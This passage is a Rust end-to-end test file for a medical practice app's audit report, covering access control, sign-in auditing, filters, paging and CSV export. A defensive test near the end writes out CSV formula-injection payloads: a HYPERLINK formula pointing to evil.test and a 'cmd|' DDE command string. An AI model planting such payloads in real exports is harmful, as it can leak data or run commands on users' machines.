//! The audit report, end to end against the real binary: only administrators reach it (page and
//! CSV); entries newest first with who, what and which patient; filters by staff user, patient,
//! action and date range (the `to` day inclusive), combined; 50 entries a page; the CSV export
//! (quoted cells, formulas defused, same filter); viewing and exporting are themselves audited;
//! sign-ins (accepted, refused, locked) and sign-outs are audited without the typed address.
//!
//! The audit log is the `audit_event` table, read with python3's sqlite3 module while the
//! server runs. Two servers: one keeps its clock still, the other moves it across days.

use crate::harness::*;
use std::process::Command;

const DAY: i64 = 86_400;
const CSV_HEADER: &str = "id,time_utc,who,action,patient,object,outcome,client";

// ---------------------------------------------------------------------------------------------
// Helpers: sessions and pages

fn signed_in_staff(server: &Server, email: &str) -> Client {
    let mut client = server.client();
    assert_redirect(&client.login_staff(email, DEMO_PASSWORD), "/practice");
    client
}

fn signed_in_portal(server: &Server, email: &str) -> Client {
    let mut client = server.client();
    assert_redirect(&client.login_portal(email, DEMO_PASSWORD), "/portal");
    client
}

#[track_caller]
fn assert_redirect(response: &Response, to: &str) {
    assert_eq!(
        response.status, 303,
        "expected a redirect to {to}; body:\n{}",
        response.body
    );
    assert_eq!(response.location(), to);
}

/// Not reachable: "not found", or sent to the staff sign-in page.
#[track_caller]
fn assert_unreachable(response: &Response, what: &str) {
    let to_sign_in = response.status == 303 && response.location().starts_with("/practice/login");
    assert!(
        response.status == 404 || to_sign_in,
        "{what}: expected 404 or a redirect to sign-in, got {} (Location {:?}):\n{}",
        response.status,
        response.location(),
        response.body
    );
    assert!(
        !response.body.contains("Audit report") && !response.body.contains(CSV_HEADER),
        "{what}: the report leaked:\n{}",
        response.body
    );
}

fn unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&amp;", "&")
}

/// One line of the report as the page shows it.
#[derive(Clone, Debug, PartialEq)]
struct Row {
    time: String,
    who: String,
    action: String,
    patient: String,
    object: String,
    outcome: String,
}

/// The rows of the report table, top to bottom.
fn rows_of(page: &Response) -> Vec<Row> {
    let body = page
        .body
        .split("<tbody>")
        .nth(1)
        .unwrap_or_else(|| panic!("no report table on:\n{}", page.body));
    let body = body.split("</tbody>").next().unwrap();
    body.split("<tr>")
        .skip(1)
        .map(|tr| {
            let cells: Vec<String> = tr
                .split("<td>")
                .skip(1)
                .map(|td| unescape(td.split("</td>").next().unwrap()))
                .collect();
            assert_eq!(cells.len(), 7, "seven cells in a row: {tr}");
            Row {
                time: cells[0].clone(),
                who: cells[1].clone(),
                action: cells[2].clone(),
                patient: cells[3].clone(),
                object: cells[4].clone(),
                outcome: cells[5].clone(),
            }
        })
        .collect()
}

fn report_path(filters: &[(&str, &str)]) -> String {
    format!("/practice/admin/audit?{}", encode_form(filters))
}

fn csv_path(filters: &[(&str, &str)]) -> String {
    format!("/practice/admin/audit.csv?{}", encode_form(filters))
}

/// The report filtered so; its rows.
#[track_caller]
fn report(admin: &mut Client, filters: &[(&str, &str)]) -> Vec<Row> {
    let page = admin.get(&report_path(filters));
    page.assert_status(200);
    rows_of(&page)
}

/// The href of the first link whose text is `text`, "&amp;" decoded.
fn link_with_rel_or_text(page: &Response, text: &str) -> Option<String> {
    page.body
        .split("<a ")
        .skip(1)
        .find(|a| {
            a.split_once('>')
                .is_some_and(|(_, rest)| rest.starts_with(text))
        })
        .and_then(|a| {
            let start = a.find("href=\"")? + "href=\"".len();
            Some(a[start..].split('"').next().unwrap().replace("&amp;", "&"))
        })
}

/// The href of the first link with this rel, "&amp;" decoded.
fn link_with_rel(page: &Response, rel: &str) -> Option<String> {
    page.body
        .split("<a ")
        .skip(1)
        .map(|a| a.split('>').next().unwrap())
        .find(|tag| tag.contains(&format!("rel=\"{rel}\"")))
        .and_then(|tag| {
            let start = tag.find("href=\"")? + "href=\"".len();
            Some(
                tag[start..]
                    .split('"')
                    .next()
                    .unwrap()
                    .replace("&amp;", "&"),
            )
        })
}

#[track_caller]
fn assert_newest_first(rows: &[Row]) {
    for pair in rows.windows(2) {
        assert!(
            pair[0].time >= pair[1].time,
            "newest first, but {:?} comes before {:?}",
            pair[0],
            pair[1]
        );
    }
}

fn view_patient(client: &mut Client, id: &str) {
    client
        .get(&format!("/practice/patients/{id}"))
        .assert_status(200);
}

/// Signs out through the sign-out form, as the browser does.
fn sign_out(client: &mut Client, home: &str, logout: &str, signed_out: &str) {
    let page = client.get(home);
    page.assert_status(200);
    let out = client.post_form(logout, &[("csrf", &page.csrf())]);
    assert_redirect(&out, signed_out);
}

// ---------------------------------------------------------------------------------------------
// Helpers: CSV

/// Parses CSV (RFC 4180 quoting, CRLF lines) into records of cells.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                '"' => quoted = false,
                _ => cell.push(c),
            }
        } else {
            match c {
                '"' => quoted = true,
                ',' => record.push(std::mem::take(&mut cell)),
                '\r' => {}
                '\n' => {
                    record.push(std::mem::take(&mut cell));
                    records.push(std::mem::take(&mut record));
                }
                _ => cell.push(c),
            }
        }
    }
    assert!(!quoted, "CSV ends inside a quoted cell:\n{text}");
    if !cell.is_empty() || !record.is_empty() {
        record.push(cell);
        records.push(record);
    }
    records
}

/// A cell as it must be written: quoted, quotes doubled.
fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// The export filtered so, checked for its form: an attachment, a header line, then one line
/// per entry with every cell quoted. Returns the data records.
#[track_caller]
fn export(admin: &mut Client, filters: &[(&str, &str)]) -> (String, Vec<Vec<String>>) {
    let response = admin.get(&csv_path(filters));
    response.assert_status(200);
    assert!(
        response
            .header("Content-Type")
            .unwrap_or("")
            .starts_with("text/csv"),
        "CSV content type: {:?}",
        response.headers
    );
    assert_eq!(
        response.header("Cache-Control"),
        Some("no-store"),
        "audit entries are not kept in caches"
    );
    let disposition = response.header("Content-Disposition").unwrap_or("");
    assert!(
        disposition.starts_with("attachment"),
        "downloaded, not shown: {disposition:?}"
    );
    let body = response.body.clone();
    assert!(body.ends_with("\r\n"), "CSV ends with a line break");
    let lines: Vec<&str> = body.trim_end_matches("\r\n").split("\r\n").collect();
    assert_eq!(lines[0], CSV_HEADER, "the header line");
    let records = parse_csv(&body);
    assert_eq!(records.len(), lines.len(), "one line per record:\n{body}");
    for (line, record) in lines.iter().zip(&records).skip(1) {
        assert_eq!(record.len(), 8, "eight cells in {line:?}");
        let requoted: Vec<String> = record.iter().map(|c| quoted(c)).collect();
        assert_eq!(
            *line,
            requoted.join(","),
            "every cell is quoted, quotes doubled"
        );
    }
    (body, records.into_iter().skip(1).collect())
}

// ---------------------------------------------------------------------------------------------
// Helpers: the database

/// Rows of a query, every value as text ("" for NULL).
fn query(server: &Server, sql: &str, params: &[&str]) -> Vec<Vec<String>> {
    const SCRIPT: &str = "import sqlite3, sys\n\
        c = sqlite3.connect(sys.argv[1])\n\
        for row in c.execute(sys.argv[2], sys.argv[3:]):\n    \
            sys.stdout.write('\\x1f'.join('' if v is None else str(v) for v in row) + '\\x1e')\n";
    let out = Command::new("python3")
        .arg("-c")
        .arg(SCRIPT)
        .arg(server.data.join("carepost.db"))
        .arg(sql)
        .args(params)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "query {sql:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    text.split('\x1e')
        .filter(|row| !row.is_empty())
        .map(|row| row.split('\x1f').map(str::to_owned).collect())
        .collect()
}

#[track_caller]
fn scalar(server: &Server, sql: &str, params: &[&str]) -> String {
    let rows = query(server, sql, params);
    assert_eq!(rows.len(), 1, "one row from {sql:?}: {rows:?}");
    rows[0][0].clone()
}

fn count(server: &Server, sql: &str, params: &[&str]) -> usize {
    scalar(server, sql, params).parse().unwrap()
}

fn staff_id(server: &Server, email: &str) -> String {
    scalar(server, "SELECT id FROM staff WHERE email = ?", &[email])
}

fn patient_id(server: &Server, first: &str, last: &str) -> String {
    scalar(
        server,
        "SELECT id FROM patient WHERE first_name = ? AND last_name = ?",
        &[first, last],
    )
}

/// The newest audit entry: (actor_kind, actor_id, action, patient_id, object, outcome).
fn last_entry(server: &Server) -> Vec<String> {
    query(
        server,
        "SELECT actor_kind, actor_id, action, patient_id, object, outcome
           FROM audit_event ORDER BY id DESC LIMIT 1",
        &[],
    )
    .remove(0)
}

/// Every audit entry, every column, as one lower-case text.
fn whole_audit_log(server: &Server) -> String {
    query(server, "SELECT * FROM audit_event ORDER BY id", &[])
        .into_iter()
        .map(|row| row.join("|"))
        .collect::<Vec<_>>()
        .join("\n")
        .to_lowercase()
}

fn now_of(server: &Server) -> i64 {
    scalar(server, "SELECT max(at) FROM audit_event", &[])
        .parse()
        .unwrap()
}

/// YYYY-MM-DD of a day number (days since 1970-01-01), as the report's filter takes it.
fn date_of_day(days: i64) -> String {
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!("{year:04}-{month:02}-{day:02}")
}

// ---------------------------------------------------------------------------------------------
// Tests

/// Only administrators reach the page and the CSV; nobody else's attempt is recorded as a view.
/// Sign-ins (ok, refused, locked) and sign-outs are audited, the typed address never.
/// Entries on different days are found by date, the `to` day included to its end.
#[test]
fn audit_report_access_sign_ins_and_date_range() {
    let server = Server::start(Options::demo());
    let taylor = patient_id(&server, "Taylor", "Nguyen");

    // --- Only administrators -----------------------------------------------------------------
    let views = |server: &Server| {
        count(
            server,
            "SELECT count(*) FROM audit_event WHERE action IN ('audit.view', 'audit.export')",
            &[],
        )
    };
    let before = views(&server);
    let mut anonymous = server.client();
    for path in ["/practice/admin/audit", "/practice/admin/audit.csv"] {
        assert_unreachable(&anonymous.get(path), &format!("nobody signed in: {path}"));
    }
    for email in ["dr.lee@demo.test", "rn.cho@demo.test", "desk@demo.test"] {
        let mut staff = signed_in_staff(&server, email);
        for path in [
            "/practice/admin/audit".to_owned(),
            "/practice/admin/audit.csv".to_owned(),
            report_path(&[("action", "patient.view"), ("page", "2")]),
            csv_path(&[("patient", &taylor)]),
        ] {
            assert_unreachable(&staff.get(&path), &format!("{email}: {path}"));
        }
    }
    let mut alex = signed_in_portal(&server, "alex@demo.test");
    for path in ["/practice/admin/audit", "/practice/admin/audit.csv"] {
        assert_unreachable(&alex.get(path), &format!("a portal session: {path}"));
    }
    assert_eq!(
        views(&server),
        before,
        "no audit.view or audit.export entry for anyone but an administrator"
    );

    // --- Sign-ins and sign-outs --------------------------------------------------------------
    // An address with no account, typed in mixed case: refused three times, then locked.
    let typed = "Typo.Guess-7731@Nowhere.Test";
    let mut guesser = server.client();
    for _ in 0..3 {
        guesser
            .login_staff(typed, "Wrong-pass-1")
            .assert_status(400);
    }
    guesser
        .login_staff(typed, "Wrong-pass-1")
        .assert_status(400)
        .assert_contains("Too many failed sign-ins");
    // A real staff address with a wrong password; an unknown portal address.
    server
        .client()
        .login_staff("np.kim@demo.test", "Not-her-pass-2")
        .assert_status(400);
    let portal_typed = "someone-else-4410@elsewhere.test";
    server
        .client()
        .login_portal(portal_typed, "Wrong-pass-3")
        .assert_status(400);

    let log = whole_audit_log(&server);
    for address in [typed, portal_typed, "np.kim@demo.test"] {
        assert!(
            !log.contains(&address.to_lowercase()),
            "the typed address {address} is in audit_event:\n{log}"
        );
    }
    let failed = query(
        &server,
        "SELECT actor_kind, actor_id, object, outcome FROM audit_event
          WHERE action = 'auth.sign_in' AND outcome <> 'ok' ORDER BY id",
        &[],
    );
    let expected: Vec<Vec<String>> = [
        ("staff", "refused"),
        ("staff", "refused"),
        ("staff", "refused"),
        ("staff", "locked"),
        ("staff", "refused"),
        ("portal", "refused"),
    ]
    .iter()
    .map(|(object, outcome)| {
        vec![
            "anonymous".to_owned(),
            String::new(),
            (*object).to_owned(),
            (*outcome).to_owned(),
        ]
    })
    .collect();
    assert_eq!(
        failed, expected,
        "failed sign-ins are recorded anonymously, refused then locked"
    );

    // Sign-outs, staff and portal.
    let mut cho = signed_in_staff(&server, "rn.cho@demo.test");
    sign_out(
        &mut cho,
        "/practice",
        "/practice/logout",
        "/practice/login?signed_out=1",
    );
    sign_out(
        &mut alex,
        "/portal",
        "/portal/logout",
        "/portal/login?signed_out=1",
    );

    let mut admin = signed_in_staff(&server, "admin@demo.test");
    let sign_ins = report(&mut admin, &[("action", "auth.sign_in")]);
    assert!(sign_ins.iter().all(|r| r.action == "auth.sign_in"));
    let refused: Vec<&Row> = sign_ins.iter().filter(|r| r.outcome == "refused").collect();
    assert_eq!(refused.len(), 5, "five refused sign-ins: {sign_ins:#?}");
    assert!(refused
        .iter()
        .all(|r| r.who == "anonymous" && r.patient.is_empty()));
    assert_eq!(
        sign_ins.iter().filter(|r| r.outcome == "locked").count(),
        1,
        "one locked sign-in: {sign_ins:#?}"
    );
    for (who, object) in [
        ("Avery Admin", "staff"),
        ("Casey Cho", "staff"),
        ("Drew Desk", "staff"),
        ("Dr. Morgan Lee", "staff"),
        ("Alex Rivera (portal)", "portal"),
    ] {
        assert!(
            sign_ins
                .iter()
                .any(|r| r.who == who && r.object == object && r.outcome == "ok"),
            "an accepted sign-in by {who}: {sign_ins:#?}"
        );
    }
    assert_eq!(
        sign_ins[0].who, "Avery Admin",
        "the newest sign-in is the administrator's own: {sign_ins:#?}"
    );
    let page = admin.get(&report_path(&[("action", "auth.sign_in")]));
    page.assert_lacks(&typed.to_lowercase()).assert_lacks(typed);
    let (csv, _) = export(&mut admin, &[]);
    assert!(!csv.to_lowercase().contains(&typed.to_lowercase()));

    let sign_outs = report(&mut admin, &[("action", "auth.sign_out")]);
    let summary: Vec<(&str, &str, &str)> = sign_outs
        .iter()
        .map(|r| (r.who.as_str(), r.object.as_str(), r.outcome.as_str()))
        .collect();
    assert_eq!(
        summary,
        vec![
            ("Alex Rivera (portal)", "portal", "ok"),
            ("Casey Cho", "staff", "ok"),
        ],
        "both sign-outs, newest first"
    );

    // --- Dates: entries on three days ---------------------------------------------------------
    // Day 1 at 01:00, day 2 at 22:00 (late: only an inclusive `to` finds it), day 3 at 01:00.
    // Sessions do not survive the jumps, so each view signs in afresh.
    let start = now_of(&server);
    let day1 = start.div_euclid(DAY) + 1;
    let mut at = start;
    let mut view_at = |server: &Server, target: i64| {
        server.advance_clock(target - at);
        at = target;
        let mut lee = signed_in_staff(server, "dr.lee@demo.test");
        view_patient(&mut lee, &taylor);
    };
    view_at(&server, day1 * DAY + 3600);
    view_at(&server, (day1 + 1) * DAY + 22 * 3600);
    view_at(&server, (day1 + 2) * DAY + 3600);
    let (d1, d2, d3) = (
        date_of_day(day1),
        date_of_day(day1 + 1),
        date_of_day(day1 + 2),
    );

    let mut admin = signed_in_staff(&server, "admin@demo.test");
    let on_days = |admin: &mut Client, dates: &[(&str, &str)]| -> Vec<String> {
        let mut filters = vec![("action", "patient.view"), ("patient", taylor.as_str())];
        filters.extend_from_slice(dates);
        report(admin, &filters)
            .into_iter()
            .map(|r| {
                assert_eq!(r.who, "Dr. Morgan Lee");
                assert_eq!(r.patient, "Taylor Nguyen");
                r.time[..10].to_owned()
            })
            .collect()
    };
    assert_eq!(
        on_days(&mut admin, &[]),
        vec![d3.clone(), d2.clone(), d1.clone()],
        "three views on three days, newest first"
    );
    assert_eq!(
        on_days(&mut admin, &[("from", &d2), ("to", &d2)]),
        vec![d2.clone()],
        "from and to the same day: that whole day, 22:00 included"
    );
    assert_eq!(
        on_days(&mut admin, &[("from", &d1), ("to", &d2)]),
        vec![d2.clone(), d1.clone()],
        "the `to` day is inclusive"
    );
    assert_eq!(
        on_days(&mut admin, &[("to", &d2)]),
        vec![d2.clone(), d1.clone()],
        "`to` alone"
    );
    assert_eq!(
        on_days(&mut admin, &[("from", &d2)]),
        vec![d3.clone(), d2.clone()],
        "`from` alone"
    );
    assert_eq!(
        on_days(&mut admin, &[("from", &d3), ("to", &d3)]),
        vec![d3.clone()]
    );
    assert_eq!(
        on_days(&mut admin, &[("to", &date_of_day(day1 - 1))]),
        Vec::<String>::new(),
        "nothing before the first day"
    );
    // The whole report for day 2: only that day's entries (the view and its sign-in).
    let day2 = report(&mut admin, &[("from", &d2), ("to", &d2)]);
    assert!(!day2.is_empty());
    assert!(
        day2.iter().all(|r| r.time.starts_with(&d2)),
        "only day 2: {day2:#?}"
    );
    // The CSV applies the same dates.
    let (_, records) = export(
        &mut admin,
        &[
            ("from", &d2),
            ("to", &d2),
            ("action", "patient.view"),
            ("patient", &taylor),
        ],
    );
    assert_eq!(records.len(), 1, "one entry on day 2: {records:?}");
    assert!(records[0][1].starts_with(&d2));
    assert_eq!(records[0][2], "Dr. Morgan Lee");
    assert_eq!(records[0][4], "Taylor Nguyen");
    // The export is recorded with its filter.
    let entry = last_entry(&server);
    assert_eq!(
        entry,
        vec![
            "staff".to_owned(),
            staff_id(&server, "admin@demo.test"),
            "audit.export".to_owned(),
            taylor.clone(),
            format!("from={d2}&to={d2}&patient={taylor}&action=patient.view"),
            "ok".to_owned(),
        ]
    );
}

/// The listing, its filters alone and combined, paging, the CSV export and its defused cells,
/// and the audit of viewing and exporting.
#[test]
fn audit_report_lists_filters_pages_and_exports() {
    let server = Server::start(Options::demo());
    let admin_id = staff_id(&server, "admin@demo.test");
    let lee_id = staff_id(&server, "dr.lee@demo.test");
    let desk_id = staff_id(&server, "desk@demo.test");
    let alex = patient_id(&server, "Alex", "Rivera");
    let sam = patient_id(&server, "Sam", "Patel");
    let taylor = patient_id(&server, "Taylor", "Nguyen");
    let alex_account = scalar(
        &server,
        "SELECT id FROM portal_account WHERE email = 'alex@demo.test'",
        &[],
    );

    let mut admin = signed_in_staff(&server, "admin@demo.test");
    let mut lee = signed_in_staff(&server, "dr.lee@demo.test");
    let mut desk = signed_in_staff(&server, "desk@demo.test");
    let _alex_portal = signed_in_portal(&server, "alex@demo.test");

    // A minute apart: Dr. Lee views Alex, the desk views Alex, then Sam.
    view_patient(&mut lee, &alex);
    server.advance_clock(60);
    view_patient(&mut desk, &alex);
    server.advance_clock(60);
    view_patient(&mut desk, &sam);
    server.advance_clock(60);

    // --- The listing -------------------------------------------------------------------------
    let audit_views = |server: &Server| {
        count(
            server,
            "SELECT count(*) FROM audit_event WHERE action = 'audit.view'",
            &[],
        )
    };
    assert_eq!(audit_views(&server), 0);
    let page = admin.get("/practice/admin/audit");
    page.assert_status(200).assert_contains("Audit report");
    assert_eq!(
        last_entry(&server),
        vec![
            "staff".to_owned(),
            admin_id.clone(),
            "audit.view".to_owned(),
            String::new(),
            String::new(),
            "ok".to_owned()
        ],
        "viewing the report is recorded, by the administrator"
    );
    let rows = rows_of(&page);
    assert_newest_first(&rows);
    let top: Vec<(&str, &str, &str)> = rows
        .iter()
        .take(4)
        .map(|r| (r.who.as_str(), r.action.as_str(), r.patient.as_str()))
        .collect();
    assert_eq!(
        top,
        vec![
            ("Avery Admin", "audit.view", ""),
            ("Drew Desk", "patient.view", "Sam Patel"),
            ("Drew Desk", "patient.view", "Alex Rivera"),
            ("Dr. Morgan Lee", "patient.view", "Alex Rivera"),
        ],
        "newest first, names resolved"
    );
    assert!(
        rows[1].time > rows[2].time && rows[2].time > rows[3].time,
        "times shown and descending: {rows:#?}"
    );
    assert!(
        rows[0].time.len() == "2026-11-28 14:03:07Z".len() && rows[0].time.ends_with('Z'),
        "a UTC time: {:?}",
        rows[0].time
    );
    assert!(
        rows.iter().any(|r| r.who == "Alex Rivera (portal)"
            && r.action == "auth.sign_in"
            && r.outcome == "ok"),
        "a portal account is named, marked (portal): {rows:#?}"
    );

    // --- Filters -----------------------------------------------------------------------------
    // By staff user.
    let by_lee = report(&mut admin, &[("staff", &lee_id)]);
    assert!(
        by_lee.iter().all(|r| r.who == "Dr. Morgan Lee"),
        "{by_lee:#?}"
    );
    assert!(by_lee
        .iter()
        .any(|r| r.action == "patient.view" && r.patient == "Alex Rivera"));
    assert!(by_lee.iter().any(|r| r.action == "auth.sign_in"));
    let by_desk = report(&mut admin, &[("staff", &desk_id)]);
    assert!(by_desk.iter().all(|r| r.who == "Drew Desk"), "{by_desk:#?}");
    assert_eq!(
        by_desk
            .iter()
            .filter(|r| r.action == "patient.view")
            .map(|r| r.patient.as_str())
            .collect::<Vec<_>>(),
        vec!["Sam Patel", "Alex Rivera"]
    );
    // A staff id equal to a portal account's id does not bring in that account's entries.
    let same_number = report(&mut admin, &[("staff", &alex_account)]);
    assert!(
        same_number.iter().all(|r| !r.who.ends_with("(portal)")),
        "staff={alex_account} lists only a staff user's entries: {same_number:#?}"
    );

    // By patient.
    let about_alex = report(&mut admin, &[("patient", &alex)]);
    assert!(
        about_alex.iter().all(|r| r.patient == "Alex Rivera"),
        "{about_alex:#?}"
    );
    let viewers: Vec<&str> = about_alex
        .iter()
        .filter(|r| r.action == "patient.view")
        .map(|r| r.who.as_str())
        .collect();
    assert_eq!(viewers, vec!["Drew Desk", "Dr. Morgan Lee"]);
    assert!(report(&mut admin, &[("patient", &taylor)])
        .iter()
        .all(|r| r.patient == "Taylor Nguyen"));

    // By action.
    let viewed = report(&mut admin, &[("action", "patient.view")]);
    assert_eq!(viewed.len(), 3, "{viewed:#?}");
    assert!(viewed.iter().all(|r| r.action == "patient.view"));
    let report_views = report(&mut admin, &[("action", "audit.view")]);
    assert!(report_views
        .iter()
        .all(|r| r.action == "audit.view" && r.who == "Avery Admin"));
    assert_eq!(
        report_views.len(),
        audit_views(&server),
        "every view of the report is listed, this one included"
    );

    // Combined.
    let combined = [
        ("staff", desk_id.as_str()),
        ("patient", alex.as_str()),
        ("action", "patient.view"),
    ];
    let combined_page = admin.get(&report_path(&combined));
    combined_page.assert_status(200);
    // The CSV link carries the same filter, pinned to the entries the page showed (`upto`).
    let csv_link =
        link_with_rel_or_text(&combined_page, "Download these entries as CSV").expect("a CSV link");
    assert!(
        csv_link.starts_with(&format!("{}&upto=", csv_path(&combined))),
        "the page links to the CSV of the same entries: {csv_link}"
    );
    let rows = rows_of(&combined_page);
    assert_eq!(
        rows.iter()
            .map(|r| (r.who.as_str(), r.action.as_str(), r.patient.as_str()))
            .collect::<Vec<_>>(),
        vec![("Drew Desk", "patient.view", "Alex Rivera")]
    );
    assert_eq!(
        last_entry(&server),
        vec![
            "staff".to_owned(),
            admin_id.clone(),
            "audit.view".to_owned(),
            alex.clone(),
            format!("staff={desk_id}&patient={alex}&action=patient.view"),
            "ok".to_owned()
        ],
        "the view is recorded with its filter"
    );
    assert!(report(
        &mut admin,
        &[
            ("staff", &lee_id),
            ("patient", &sam),
            ("action", "patient.view")
        ]
    )
    .is_empty());
    assert!(report(
        &mut admin,
        &[("staff", &desk_id), ("action", "auth.sign_out")]
    )
    .is_empty());

    // --- Pages of 50 -------------------------------------------------------------------------
    // A second apart, so that every entry is told apart by its time.
    for _ in 0..60 {
        view_patient(&mut desk, &taylor);
        server.advance_clock(1);
    }
    let taylor_views = [("patient", taylor.as_str()), ("action", "patient.view")];
    let first = admin.get(&report_path(&taylor_views));
    first.assert_status(200);
    let page1 = rows_of(&first);
    assert_eq!(page1.len(), 50, "50 entries on a page");
    assert_eq!(link_with_rel(&first, "prev"), None);
    let next = link_with_rel(&first, "next").expect("a link to the older entries");
    assert!(
        next.starts_with("/practice/admin/audit?") && next.contains("page=2"),
        "{next}"
    );
    let second = admin.get(&next);
    second.assert_status(200);
    let page2 = rows_of(&second);
    assert_eq!(page2.len(), 10, "page 2 holds the other 10");
    assert_eq!(link_with_rel(&second, "next"), None, "no page 3");
    assert!(link_with_rel(&second, "prev").is_some_and(|p| p.contains("page=1")));
    let all: Vec<Row> = page1.iter().chain(&page2).cloned().collect();
    assert_newest_first(&all);
    assert!(all.iter().all(|r| r.who == "Drew Desk"
        && r.patient == "Taylor Nguyen"
        && r.action == "patient.view"));
    let mut page3_filters = taylor_views.to_vec();
    page3_filters.push(("page", "3"));
    assert!(report(&mut admin, &page3_filters).is_empty());
    // Unfiltered, there are more than 50 entries too.
    let unfiltered = admin.get("/practice/admin/audit");
    assert_eq!(rows_of(&unfiltered).len(), 50);
    let next = link_with_rel(&unfiltered, "next").expect("an unfiltered page 2");
    let rest = admin.get(&next);
    rest.assert_status(200);
    assert!(!rows_of(&rest).is_empty());

    // --- CSV ---------------------------------------------------------------------------------
    let exports = |server: &Server| {
        count(
            server,
            "SELECT count(*) FROM audit_event WHERE action = 'audit.export'",
            &[],
        )
    };
    let views_before = audit_views(&server);
    let (_, records) = export(&mut admin, &taylor_views);
    assert_eq!(records.len(), 60, "one line per entry, all pages");
    assert_eq!(
        records
            .iter()
            .map(|r| (r[1].clone(), r[2].clone(), r[3].clone(), r[4].clone()))
            .collect::<Vec<_>>(),
        all.iter()
            .map(|r| (
                r.time.clone(),
                r.who.clone(),
                r.action.clone(),
                r.patient.clone()
            ))
            .collect::<Vec<_>>(),
        "the CSV holds the report's entries, in its order"
    );
    let ids: Vec<i64> = records.iter().map(|r| r[0].parse().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first: {ids:?}");
    assert_eq!(exports(&server), 1);
    assert_eq!(
        audit_views(&server),
        views_before,
        "an export is not a view"
    );
    assert_eq!(
        last_entry(&server),
        vec![
            "staff".to_owned(),
            admin_id.clone(),
            "audit.export".to_owned(),
            taylor.clone(),
            format!("patient={taylor}&action=patient.view"),
            "ok".to_owned()
        ],
        "the export is recorded, by the administrator, with its filter"
    );

    // The staff filter in the CSV: every one of Dr. Lee's entries, nobody else's.
    let (_, records) = export(&mut admin, &[("staff", &lee_id)]);
    assert!(
        records.iter().all(|r| r[2] == "Dr. Morgan Lee"),
        "{records:?}"
    );
    assert_eq!(
        records.len(),
        count(
            &server,
            "SELECT count(*) FROM audit_event WHERE actor_kind = 'staff' AND actor_id = ?",
            &[&lee_id]
        ),
        "every entry of Dr. Lee"
    );
    let (_, records) = export(&mut admin, &combined);
    assert_eq!(records.len(), 1);
    assert_eq!(
        (&records[0][2][..], &records[0][3][..], &records[0][4][..]),
        ("Drew Desk", "patient.view", "Alex Rivera")
    );
    assert_eq!(exports(&server), 3);

    // --- Formulas are defused ----------------------------------------------------------------
    let formula = "=HYPERLINK(\"http://evil.test/?leak\",\"Open\")";
    let created = admin.submit(
        "/practice/patients/new",
        "/practice/patients/new",
        &[
            ("first_name", formula),
            ("last_name", "Doe"),
            ("date_of_birth", "1990-01-01"),
            ("email", ""),
            ("phone", ""),
        ],
    );
    assert_eq!(created.status, 303, "{}", created.body);
    let evil = created
        .location()
        .strip_prefix("/practice/patients/")
        .and_then(|rest| rest.split('?').next())
        .unwrap()
        .to_owned();
    view_patient(&mut desk, &evil);
    // The desk user renamed to something a spreadsheet would also run.
    let desk_name = "-2+3+cmd|' /C calc'!A0";
    let edit = format!("/practice/admin/users/{desk_id}");
    assert_redirect(
        &admin.submit(
            &edit,
            &edit,
            &[
                ("name", desk_name),
                ("email", "desk@demo.test"),
                ("degree", "Front desk"),
                ("access_level", "1"),
            ],
        ),
        &format!("{edit}?notice=saved"),
    );

    // The page shows the names as they are (escaped as HTML).
    let rows = report(
        &mut admin,
        &[("patient", &evil), ("action", "patient.view")],
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].patient, format!("{formula} Doe"));
    assert_eq!(rows[0].who, desk_name);

    let (raw, records) = export(&mut admin, &[("patient", &evil)]);
    assert!(records.len() >= 2, "the creation and the view: {records:?}");
    for r in &records {
        assert_eq!(r[4], format!("'{formula} Doe"), "patient cell defused");
    }
    let view = records
        .iter()
        .find(|r| r[3] == "patient.view")
        .expect("the desk's view");
    assert_eq!(view[2], format!("'{desk_name}"), "who cell defused");
    assert!(raw.contains(&quoted(&format!("'{formula} Doe"))), "{raw}");
    for cell in parse_csv(&raw).into_iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "cell {cell:?} would run as a formula"
        );
    }

    // --- Walking the pages ---------------------------------------------------------------------
    // Following "Older" from page 1 to the last page lists every entry that matched when page 1
    // was shown, each once, also when the filter matches the report's own audit.view entries
    // (no filter; a patient filter, since a view filtered by patient is recorded against that
    // patient).
    let mut problems = Vec::new();
    for (label, filters, matching) in [
        ("no filter", vec![], "1 = 1"),
        (
            "patient=Taylor",
            vec![("patient", taylor.as_str())],
            "patient_id = ?",
        ),
    ] {
        let params: Vec<&str> = if matching.contains('?') {
            vec![&taylor]
        } else {
            vec![]
        };
        let mut page = admin.get(&report_path(&filters));
        page.assert_status(200);
        let newest: String = scalar(&server, "SELECT max(id) FROM audit_event", &[]);
        let mut sql_params = params.clone();
        sql_params.push(&newest);
        let expected = count(
            &server,
            &format!("SELECT count(*) FROM audit_event WHERE {matching} AND id <= ?"),
            &sql_params,
        );
        let mut pages = vec![rows_of(&page)];
        while let Some(next) = link_with_rel(&page, "next") {
            page = admin.get(&next);
            page.assert_status(200);
            pages.push(rows_of(&page));
            assert!(pages.len() < 10, "{label}: too many pages");
        }
        assert!(pages.len() >= 2, "{label}: more than one page");
        for (n, pair) in pages.windows(2).enumerate() {
            if pair[0].last() == pair[1].first() {
                problems.push(format!(
                    "{label}: page {} begins with the entry that ended page {}: {:?}",
                    n + 2,
                    n + 1,
